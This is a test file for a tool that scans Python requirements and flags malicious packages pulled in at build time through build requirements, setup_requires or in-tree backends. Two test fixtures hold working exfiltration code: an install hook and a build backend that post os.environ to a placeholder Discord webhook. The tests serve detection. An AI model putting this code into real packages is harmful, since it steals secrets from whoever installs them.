// The build-time closure end to end: what pip installs before it builds an sdist (its
// `[build-system] requires`, pip's default setuptools, static `setup_requires`), resolved from the
// local index and checked like any dependency, recursively, with the chain that brings it; the
// dependencies an sdist states only in its build files; and the bad inputs that must end with a
// reason (cycles, deep chains, thousands of requirements, a requirement no index has).

import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { makeSdist, makeWheel } from './helpers/archives.js';
import { startIndexServer, type IndexServer, type IndexServerFile } from './helpers/index-server.js';
import { makeProject, runCli } from './helpers/project.js';
import { BuildClosure, MAX_BUILD_DEPTH, MAX_BUILD_REQUIREMENTS, type BuildJob, type Entry } from '../src/closure.js';
import { FormatControl } from '../src/python/format-control.js';

// Defanged: a build script that sends the environment to a webhook when the package is installed.
const PAYLOAD_SETUP = (name: string) => `
import os, socket, requests
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        data = {"host": socket.gethostname(), "env": dict(os.environ)}
        requests.post("https://discord.com/api/webhooks/1234567890/AbCdEfGhIjKlMnOp", json=data)
        install.run(self)

setup(name=${JSON.stringify(name)}, version="1.0", cmdclass={"install": PostInstall})
`;

const pyproject = (requires: string[], backend = 'setuptools.build_meta', extra = '') =>
  `[build-system]\nrequires = [${requires.map((r) => JSON.stringify(r)).join(', ')}]\nbuild-backend = "${backend}"\n${extra}`;

/** An sdist as current setuptools and hatchling write them: a PKG-INFO (2.2 or later) that binds its dependencies. */
function sdist(name: string, files: Record<string, string> = {}, version = '1.0'): IndexServerFile {
  return makeSdist(name, version, { 'PKG-INFO': `Metadata-Version: 2.2\nName: ${name}\nVersion: ${version}\n`, ...files });
}

const OLD_PKG_INFO = (name: string) => `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n`;

function wheel(name: string, version = '1.0', deps: string[] = []): IndexServerFile {
  return makeWheel(name, version, 'py3-none-any', deps);
}

/** A chain of sdists, each needing the next to build: chain-0 -> chain-1 -> ... -> chain-n. */
function chain(n: number): Record<string, IndexServerFile[]> {
  const out: Record<string, IndexServerFile[]> = {};
  for (let i = 0; i <= n; i++) {
    out[`chain-${i}`] = [sdist(`chain-${i}`, { 'pyproject.toml': pyproject(i < n ? ['setuptools', `chain-${i + 1}`] : ['setuptools']) })];
  }
  return out;
}

const MANY = MAX_BUILD_REQUIREMENTS * 30;

const PROJECTS: Record<string, IndexServerFile[]> = {
  setuptools: [wheel('setuptools', '80.0')],
  wheel: [wheel('wheel', '0.45')],
  hatchling: [wheel('hatchling', '1.27', ['packaging>=24.2', 'pathspec>=0.10.1', 'pluggy>=1.0.0', 'trove-classifiers'])],
  packaging: [wheel('packaging', '25.0')],
  pathspec: [wheel('pathspec', '0.12.1')],
  pluggy: [wheel('pluggy', '1.6.0')],
  'trove-classifiers': [wheel('trove_classifiers', '2025.1.1')],
  // legitimate: a setuptools sdist and a hatchling sdist whose build requirements have wheels
  'plain-setuptools': [sdist('plain-setuptools', { 'pyproject.toml': pyproject(['setuptools>=61', 'wheel']) })],
  'plain-hatch': [sdist('plain-hatch', { 'pyproject.toml': pyproject(['hatchling'], 'hatchling.build', '[project]\nname = "plain-hatch"\nversion = "1.0"\n'), 'setup.py': '' })],
  'no-pyproject': [sdist('no-pyproject')],
  // a malicious sdist-only helper, and the packages that bring it in at build time
  'evil-helper': [sdist('evil-helper', { 'setup.py': PAYLOAD_SETUP('evil-helper') })],
  'uses-evil': [sdist('uses-evil', { 'pyproject.toml': pyproject(['setuptools', 'evil-helper']) })],
  'uses-evil-setup-requires': [
    sdist('uses-evil-setup-requires', { 'setup.py': 'from setuptools import setup\nsetup(name="uses-evil-setup-requires", setup_requires=["evil-helper>=1"])\n' }),
  ],
  'middle-helper': [sdist('middle-helper', { 'pyproject.toml': pyproject(['setuptools', 'evil-helper']) })],
  'uses-middle': [sdist('uses-middle', { 'pyproject.toml': pyproject(['middle-helper']) })],
  // an sdist whose PKG-INFO does not bind its dependencies, and one that states nothing statically
  'old-meta': [sdist('old-meta', { 'PKG-INFO': OLD_PKG_INFO('old-meta'), 'setup.py': 'from setuptools import setup\nsetup(name="old-meta", install_requires=["evil-helper"])\n' })],
  'dyn-meta': [sdist('dyn-meta', { 'PKG-INFO': OLD_PKG_INFO('dyn-meta'), 'setup.py': 'from setuptools import setup\nsetup(name="dyn-meta", install_requires=open("r.txt").read().split())\n' })],
  'computed-setup-requires': [sdist('computed-setup-requires', { 'setup.py': 'from setuptools import setup\nimport helpers\nsetup(name="x", setup_requires=helpers.needed())\n' })],
  // bad input
  'cyc-a': [sdist('cyc-a', { 'pyproject.toml': pyproject(['setuptools', 'cyc-b']) })],
  'cyc-b': [sdist('cyc-b', { 'pyproject.toml': pyproject(['setuptools', 'cyc-a']) })],
  ...chain(MAX_BUILD_DEPTH + 2),
  'many-reqs': [sdist('many-reqs', { 'pyproject.toml': pyproject(Array.from({ length: MANY }, (_, i) => `bulk-${i}`)) })],
  'wants-missing': [sdist('wants-missing', { 'pyproject.toml': pyproject(['setuptools', 'no-such-helper>=2']) })],
  'in-tree': [
    sdist('in-tree', {
      'pyproject.toml': pyproject([], 'backend', '').replace('build-backend = "backend"', 'build-backend = "backend"\nbackend-path = ["_build"]'),
      '_build/backend.py': 'import os, requests\nrequests.post("https://discord.com/api/webhooks/1234567890/AbCdEfGhIjKlMnOp", json=dict(os.environ))\ndef build_wheel(d, c=None, m=None):\n    return ""\n',
    }),
  ],
};

type Dep = {
  name: string;
  version: string | null;
  status: string;
  reason: string;
  via?: string[];
  sources: Array<{ path: string; line: number; requirement: string }>;
  limits: string[];
};
type Report = { dependencies: Dep[]; diagnostics: Array<{ severity: string; path: string; line?: number; message: string }> };

describe('the build-time closure', () => {
  let server: IndexServer;
  beforeAll(async () => {
    server = await startIndexServer({ projects: PROJECTS });
  });
  afterAll(async () => {
    await server.close();
  });

  async function scanJson(requirements: string, extra: string[] = []) {
    const project = makeProject({ 'requirements.txt': requirements });
    try {
      const before = server.requests.length;
      const run = await runCli(['scan', '.', '--index-url', server.indexUrl, '--format', 'json', '--python-version', '3.12', '--platform', 'linux', ...extra], { cwd: project.dir });
      const report = JSON.parse(run.stdout) as Report;
      const all = (name: string) => report.dependencies.filter((d) => d.name === name);
      return { code: run.code, report, all, by: (name: string) => all(name)[0], requests: server.requests.slice(before) };
    } finally {
      project.cleanup();
    }
  }

  it('leaves alone a setuptools sdist and a hatchling sdist whose build requirements have wheels, without a new warning', async () => {
    const { code, report, by } = await scanJson('plain-setuptools\nplain-hatch\n');
    expect(code).toBe(0);
    expect(report.diagnostics).toEqual([]);
    expect(by('plain-setuptools')).toMatchObject({ status: 'sdist' });
    expect(by('setuptools')).toMatchObject({ status: 'wheel', version: '80.0' });
    expect(by('wheel')).toMatchObject({ status: 'wheel', via: ['plain-setuptools', '(build) wheel'], sources: [{ path: 'requirements.txt', line: 1 }] });
    expect(by('hatchling')).toMatchObject({ status: 'wheel', via: ['plain-hatch', '(build) hatchling'], sources: [{ line: 2 }] });
    // what the build requirement itself pulls in is installed into the build environment too
    expect(by('pluggy')).toMatchObject({ status: 'wheel', via: ['plain-hatch', '(build) hatchling', 'pluggy'] });
    expect(report.dependencies.every((d) => d.status === 'sdist' || d.status === 'wheel')).toBe(true);
  });

  it('assumes setuptools>=40.8.0 for an sdist with no [build-system] table, as pip does', async () => {
    const { code, by } = await scanJson('no-pyproject\n');
    expect(code).toBe(0);
    expect(by('setuptools')).toMatchObject({ status: 'wheel', via: ['no-pyproject', '(build) setuptools'] });
    expect(by('wheel')).toBeUndefined();
  });

  it('catches a malicious sdist-only package in [build-system].requires, on the line that brought its dependent', async () => {
    const { code, by } = await scanJson('# app\nuses-evil\n');
    expect(code).toBe(1);
    expect(by('uses-evil')).toMatchObject({ status: 'sdist' });
    expect(by('evil-helper')).toMatchObject({ status: 'suspicious', via: ['uses-evil', '(build) evil-helper'], sources: [{ path: 'requirements.txt', line: 2, requirement: 'uses-evil' }] });
  });

  it('catches it in a static setup_requires, and in a build requirement’s own build requirements', async () => {
    const first = await scanJson('uses-evil-setup-requires\n');
    expect(first.code).toBe(1);
    expect(first.by('evil-helper')).toMatchObject({ status: 'suspicious', via: ['uses-evil-setup-requires', '(build) evil-helper'] });
    const nested = await scanJson('uses-middle\n');
    expect(nested.code).toBe(1);
    expect(nested.by('middle-helper')).toMatchObject({ status: 'sdist', via: ['uses-middle', '(build) middle-helper'] });
    expect(nested.by('evil-helper')).toMatchObject({ status: 'suspicious', via: ['uses-middle', '(build) middle-helper', '(build) evil-helper'], sources: [{ line: 1 }] });
  });

  it('reads the dependencies an sdist states only in its build files, marked as such, and warns where it states none', async () => {
    const { code, report, by } = await scanJson('old-meta\ndyn-meta\n');
    expect(code).toBe(1);
    expect(by('evil-helper')).toMatchObject({ status: 'suspicious', via: ['old-meta', '(setup.py) evil-helper'], sources: [{ line: 1 }] });
    const warnings = report.diagnostics.filter((d) => d.severity === 'warning');
    expect(warnings.some((w) => /old_meta/.test(w.message))).toBe(false);
    expect(warnings).toEqual([expect.objectContaining({ line: 2, message: expect.stringMatching(/dyn_meta-1\.0\.tar\.gz are unknown: .*Metadata-Version 2\.1.*\(setup\.py computes install_requires\)/) })]);
  });

  it('warns where setup.py computes what it asks pip to install before building it', async () => {
    const { report, by } = await scanJson('# tools\ncomputed-setup-requires\n');
    expect(by('setuptools')).toMatchObject({ status: 'wheel', via: ['computed-setup-requires', '(build) setuptools'] });
    expect(report.diagnostics).toEqual([
      expect.objectContaining({ severity: 'warning', line: 2, message: expect.stringMatching(/computed_setup_requires-1\.0\.tar\.gz \(computed-setup-requires\): setup\.py computes setup_requires; what pip installs from there to build it is not checked/) }),
    ]);
  });

  it('analyzes an in-tree backend (backend-path) as build code', async () => {
    const { code, by } = await scanJson('in-tree\n');
    expect(code).toBe(1);
    expect(by('in-tree')).toMatchObject({ status: 'suspicious' });
  });

  it('ends a cycle of build requirements with its reason, as pip stops there', async () => {
    const { code, all } = await scanJson('cyc-a\n');
    expect(code).toBe(1);
    const closing = all('cyc-a').find((d) => d.via !== undefined)!;
    expect(closing).toMatchObject({ status: 'unresolved', via: ['cyc-a', '(build) cyc-b', '(build) cyc-a'], sources: [{ line: 1 }] });
    expect(closing.reason).toMatch(/a cycle of build requirements: building cyc_a-1\.0\.tar\.gz needs cyc_a-1\.0\.tar\.gz itself/);
  });

  it('stops a chain of nested builds deeper than it follows, and says so on the dependency it came from', async () => {
    const { code, report } = await scanJson('chain-0\n');
    expect(code).toBe(1);
    const stopped = report.dependencies.filter((d) => d.status === 'unresolved');
    expect(stopped).toHaveLength(1);
    expect(stopped[0]!.name).toBe(`chain-${MAX_BUILD_DEPTH}`);
    expect(stopped[0]!.via).toHaveLength(MAX_BUILD_DEPTH + 1);
    expect(stopped[0]!.reason).toMatch(new RegExp(`built inside ${MAX_BUILD_DEPTH} other builds .* more than the ${MAX_BUILD_DEPTH} followed`));
    expect(stopped[0]!.sources).toEqual([expect.objectContaining({ line: 1 })]);
  });

  it('refuses thousands of build requirements with a reason, without looking any of them up', async () => {
    const { code, by, requests } = await scanJson('many-reqs\n');
    expect(code).toBe(1);
    expect(by('many-reqs')).toMatchObject({ status: 'unresolved' });
    expect(by('many-reqs')!.reason).toMatch(new RegExp(`declares ${MANY} build requirements, more than the ${MAX_BUILD_REQUIREMENTS} followed`));
    expect(requests.some((r) => r.path.includes('bulk-'))).toBe(false);
  });

  it('reports a build requirement no index has as unresolved, on the line of its dependent', async () => {
    const { code, by } = await scanJson('wants-missing\n');
    expect(code).toBe(1);
    expect(by('no-such-helper')).toMatchObject({ status: 'unresolved', via: ['wants-missing', '(build) no-such-helper'], sources: [{ line: 1 }] });
  });

  it('follows the same builds from analyses kept in the cache, without downloading the sdists again', async () => {
    const cacheDir = mkdtempSync(join(tmpdir(), 'sdist-guard-test-cache-'));
    try {
      const cold = await scanJson('uses-middle\n', ['--cache-dir', cacheDir]);
      const warm = await scanJson('uses-middle\n', ['--cache-dir', cacheDir]);
      const shape = (r: Report) => r.dependencies.map((d) => [d.name, d.status, d.via]).sort();
      expect(shape(warm.report)).toEqual(shape(cold.report));
      expect(warm.by('evil-helper')).toMatchObject({ status: 'suspicious', via: ['uses-middle', '(build) middle-helper', '(build) evil-helper'] });
      expect(warm.requests.filter((r) => r.path.endsWith('.tar.gz'))).toEqual([]);
    } finally {
      rmSync(cacheDir, { recursive: true, force: true });
    }
  });

  it('fetches and checks a build requirement given by URL', async () => {
    const helper = PROJECTS['evil-helper']![0]!;
    server.update({ projects: { ...PROJECTS, 'url-build': [sdist('url-build', { 'pyproject.toml': pyproject(['setuptools', `evil-helper @ ${server.url}/files/${helper.filename}`]) })] } });
    try {
      const { code, by } = await scanJson('url-build\n');
      expect(code).toBe(1);
      expect(by('evil-helper')).toMatchObject({ status: 'suspicious', via: ['url-build', '(build) evil-helper'], sources: [{ line: 1 }] });
    } finally {
      server.update({ projects: PROJECTS });
    }
  });

  it('marks the dependency whose build the scan\'s deadline cut short', async () => {
    server.update({ projects: { ...PROJECTS, 'slow-tool': [wheel('slow-tool')], 'needs-slow': [sdist('needs-slow', { 'pyproject.toml': pyproject(['slow-tool']) })] }, faults: { '/simple/slow-tool/': { hang: true } } });
    try {
      const { code, by } = await scanJson('needs-slow\n', ['--deadline', '3']);
      expect(code).toBe(1);
      expect(by('needs-slow')).toMatchObject({ status: 'unresolved' });
      expect(by('needs-slow')!.reason).toMatch(/its build requirements were not followed: not decided before the scan's deadline/);
    } finally {
      server.update({ projects: PROJECTS, faults: {} });
    }
  });

  it('follows nothing with --no-transitive', async () => {
    const { code, all } = await scanJson('uses-evil\n', ['--no-transitive']);
    expect(code).toBe(0);
    expect(all('evil-helper')).toEqual([]);
  });
});

describe('BuildClosure', () => {
  const pip = { indexUrls: ['https://index.invalid/simple/'], noIndex: false, pre: false, preferBinary: false, formatControl: new FormatControl() };
  /** An entry whose one target builds each of `sdists` (by name), as read and declaring nothing. */
  const entry = (name: string, sdists: string[] = [name]): Entry => ({
    name,
    displayName: name,
    sources: [{ path: 'requirements.txt', line: 1, requirement: name }],
    chain: [name],
    pip,
    ancestors: [],
    outcomes: sdists.map((s) => ({
      skipped: false,
      selection: { target: {} as never, kind: 'sdist', file: { filename: `${s}-1.0.tar.gz`, url: `https://index.invalid/files/${s}-1.0.tar.gz` } as never, reason: '' },
      check: { findings: [], suspicious: false, limits: [], declared: { buildSystem: { requires: [] }, setupRequires: [] } } as never,
    })),
  });
  const tick = () => new Promise((r) => setImmediate(r));

  it('starts a build when its entry is handed over, once per build, and follows what each build learns', async () => {
    const started: string[] = [];
    const ends = new Map<string, () => void>();
    const learns: Record<string, Entry[]> = { a: [entry('tool')], tool: [entry('deep')] };
    const closure = new BuildClosure(async (job: BuildJob) => {
      started.push(job.entry.name);
      await new Promise<void>((r) => ends.set(job.entry.name, r));
      return learns[job.entry.name] ?? [];
    });
    const a = entry('a');
    expect(closure.follow(a)).toBe(a);
    closure.follow(a);
    closure.follow(entry('b', []));
    expect(started).toEqual(['a']);
    let settled = false;
    void closure.settled().then(() => (settled = true));
    ends.get('a')!();
    await tick();
    expect(started).toEqual(['a', 'tool']);
    ends.get('tool')!();
    await tick();
    expect(started).toEqual(['a', 'tool', 'deep']);
    expect(settled).toBe(false);
    expect([...closure.pending].map((j) => j.entry.name)).toEqual(['deep']);
    ends.get('deep')!();
    await tick();
    expect(settled).toBe(true);
    expect(closure.learned.map((e) => e.name)).toEqual(['tool', 'deep']);
    expect(closure.pending.size).toBe(0);
  });

  it('settles at once with nothing to build, and fails with a build that fails', async () => {
    await expect(new BuildClosure(async () => []).settled()).resolves.toBe(true);
    const closure = new BuildClosure(async () => {
      throw new Error('broken build');
    });
    closure.follow(entry('a'));
    await expect(closure.settled()).rejects.toThrow('broken build');
  });
});
